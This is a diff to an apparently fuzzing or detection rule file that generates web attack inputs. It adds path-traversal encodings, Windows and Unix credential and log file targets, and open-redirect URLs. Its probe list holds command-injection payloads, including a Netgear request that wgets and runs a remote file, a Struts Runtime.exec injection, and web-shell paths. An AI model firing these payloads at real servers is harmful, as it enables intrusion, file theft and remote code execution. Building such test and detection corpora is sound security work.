@@ -1,9 +1,12 @@
 """Attacks on files and addresses: traversal, file inclusion, PHP wrappers, SSRF, redirects, probes."""
 
 RULES = r"""
-up = ../ ../ ../ ..\ ..// ..\\ ....// ....\/ ..../ ..;/ .%2e/ %2e%2e/ %2e%2e%2f ..%2f ..%5c %2e%2e%5c ..%255c ..%252f %252e%252e%252f ..%c0%af %c0%ae%c0%ae/ %c0%ae%c0%ae%c0%af ..%c1%9c ..%ef%bc%8f ..%u2215 ..%u2216 %uff0e%uff0e%u2215 .././ ./../ ../\ ..%00/ ..%0d/ ..%01/ ...//  /..././ ..%25%32%66 %%32%65%%32%65/ .?/ ..0x2f 0x2e0x2e/ ..%e0%80%af .%00./ ..%09/ ..%5c../ .\./ ///../
+up = ../ ../ ../ ..\ ..// ..\\ ....// ....\/ ..../ ..;/ .%2e/ %2e%2e/ %2e%2e%2f ..%2f ..%5c %2e%2e%5c ..%255c ..%252f %252e%252e%252f ..%c0%af %c0%ae%c0%ae/ %c0%ae%c0%ae%c0%af ..%c1%9c ..%ef%bc%8f ..%u2215 ..%u2216 %uff0e%uff0e%u2215 .././ ./../ ../\ ..%00/ ..%0d/ ..%01/ ...//  /..././ ..%25%32%66 %%32%65%%32%65/ .?/ ..0x2f 0x2e0x2e/ 0x2e0x2e0x5c 0x2e0x2e0x2f %c0%fe%c0%fe%uF025 %f8%80%80%80%ae%f8%80%80%80%ae%u2215 %fc%80%80%80%80%ae%fc%80%80%80%80%ae%c1%af %f8%80%80%80%ae%f8%80%80%80%ae%f8%80%80%80%af %c0%5e%c0%5e%uF025 %c0%ee%c0%ee0x5c %c0%6e%c0%6e%c1%1c %c0%2e%c0%2e%c0%2f %e0%80%ae%e0%80%ae%e0%80%af %f0%80%80%ae%f0%80%80%ae%f0%80%80%af ..%e0%80%af .%00./ ..%09/ ..%5c../ .\./ ///../
 end = %00 %00.jpg %00.html .jpg? ? # / /. //. %00.php %2500 .html%00 ;.js ?.js %23 \0 ................ %20 ::$DATA ~ .bak /./././.
 base = «w» images static files download include pages content uploads css js assets docs theme «w»/«w» lang img /var/www/html /static /img /assets /icons /cgi-bin /files /download . ./.
+drive = C:/ C:\ c:/ c:\ D:\
+winlog = «drive»windows/panther/unattend.xml «drive»windows\panther\unattend\unattended.xml «drive»sysprep/sysprep.inf «drive»wamp\logs\access_log «drive»xampp/apache/logs/error.log «drive»mysql/data/mysql.err «drive»ProgramFiles\MySQL\my.ini «drive»inetpub/logs/LogFiles/W3SVC1 «drive»windows\repair\sam «drive»windows/system32/inetsrv/config/applicationHost.config «drive»winnt\php.ini «drive»documents«sp»and«sp»settings\administrator\ntuser.dat «drive»apache\conf\httpd.conf
+nixlog = /var/adm/utmpx /var/adm/aculog /var/log/messages.2.gz /var/log/secure /private/var/log/«w».log /usr/local/cpanel/logs/stats_log /usr/local/apache/logs/access_log /usr/local/php/lib/php.ini /usr/local/etc/«w».conf /usr/pkg/etc/httpd/httpd.conf /opt/lampp/logs/error_log /opt/xampp/etc/php.ini /var/www/logs/access.log /var/lib/mlocate/mlocate.db /var/spool/cron/crontabs/root /etc/httpd/conf/httpd.conf /etc/vsftpd.conf /etc/master.passwd /etc/security/passwd /proc/net/tcp /proc/sched_debug /home/«w»/.bash_history /root/.bashrc /Volumes/Macintosh_HD1/opt/httpd/conf/httpd.conf /bin/php.ini /logs/«w».log /apache/logs/error.log
 traversal:
   «up:1»«up:1»«up:1»«file»
   «up:1»«up:1»«up:1»«up:1»«file»
@@ -55,6 +58,15 @@ traversal:
   /proc/«digit(1-4)»/environ
   /WEB-INF/web.xml
   /static//////«up:1»«up:1»«up:1»«nixfile»
+  «winlog»
+  «winlog»
+  «nixlog»
+  «nixlog»
+  ../«w»/config
+  ../config/password
+  ../«appfile»
+  ../
+  ../../
   /..;/..;/«w»/
   /«w»/..;/manager/html
   /;/WEB-INF/web.xml
@@ -322,6 +334,13 @@ redirect:
   https://«host»\«w».«tld»
   https://«host»%23.«w».«tld»
   https://«w».«tld».«host»/
+  https://www.«w».«tld»@«host»/«w»
+  http://www.«w».«tld»@«host»/
+  https://«w».«tld»@«host»/«w»/«w»
+  //www.«w».«tld»@«host»/«w»
+  https://google.com@«host»
+  https://«host»/«w»
+  http://«host»/«w»/login
   //google.com/%2f..
   https://evil.«tld»
   https://evil.«tld»/
@@ -369,7 +388,6 @@ probe:
   /.htaccess
   /.bash_history
   /.mysql_history
-  /.DS_Store
   /.npmrc
   /.dockerenv
   /.docker/config.json
@@ -394,23 +412,15 @@ probe:
   /«w».tar.gz.bak
   /web.config.bak
   /WEB-INF/web.xml
-  /phpinfo.php
   /info.php?=phpinfo
-  /phpmyadmin/scripts/setup.php
-  /pma/scripts/setup.php
   /cgi-bin/test-cgi
   /cgi-bin/printenv
   /cgi-bin/php-cgi
   /cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd
-  /server-status?auto
   /actuator/env
   /actuator/heapdump
   /actuator/gateway/routes
-  /jmx-console/
   /invoker/JMXInvokerServlet
-  /web-console/ServerInfo.jsp
-  /manager/html
-  /host-manager/html
   /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
   /_ignition/execute-solution
   /boaform/admin/formLogin
@@ -420,22 +430,14 @@ probe:
   /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://«host»/«w»+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1
   /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(«cmd»)
   /autodiscover/autodiscover.json?@«w».com/owa/?&Email=autodiscover/autodiscover.json%3F@«w».com
-  /owa/auth/x.js
-  /ecp/«w».js
   /solr/admin/cores?wt=json&«w»=..%2f
   /solr/«w»/select?q=1&&wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)
   /console/css/%252e%252e%252fconsole.portal
-  /wls-wsat/CoordinatorPortType
-  /_async/AsyncResponseService
   /struts2-showcase/$%7B«n»*«n»%7D/actionChain1.action
   /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22«cmd|q»%22%29%29%7D/
   /nice%20ports%2C/Tri%6Eity.txt%2ebak
   /?XDEBUG_SESSION_START=phpstorm
   /«w».asp::$DATA
-  /«w»/?C=D;O=A'
-  /trace.axd
-  /elmah.axd
-  /msadc/msadcs.dll
   /_vti_pvt/service.pwd
   /root.exe?/c+dir
   /c/winnt/system32/cmd.exe?/c+dir
@@ -445,5 +447,4 @@ probe:
   /r57.php
   /wso.php
   /cmd.jsp?cmd=«cmd|plus»
-  /xmlrpc.php?rsd'
 """
